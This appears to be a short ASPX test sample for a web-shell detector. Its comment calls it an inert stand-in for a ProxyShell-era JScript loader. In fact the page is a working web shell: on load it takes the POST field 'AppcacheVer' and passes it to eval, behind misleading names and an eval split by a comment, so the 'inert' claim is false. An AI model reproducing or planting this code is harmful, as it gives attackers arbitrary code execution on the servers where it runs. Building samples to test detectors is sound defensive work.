<%@ Page Language="Jscript" Debug="false" %>
<script runat="server">
	// exhume test sample: inert stand-in for a ProxyShell-era JScript loader.
	function getErrorWord(){ return Request.Form["AppcacheVer"]; }
	function Page_Load(){ var errorWord = getErrorWord(); if (errorWord) { eval/*exh*/(errorWord); } }
</script>
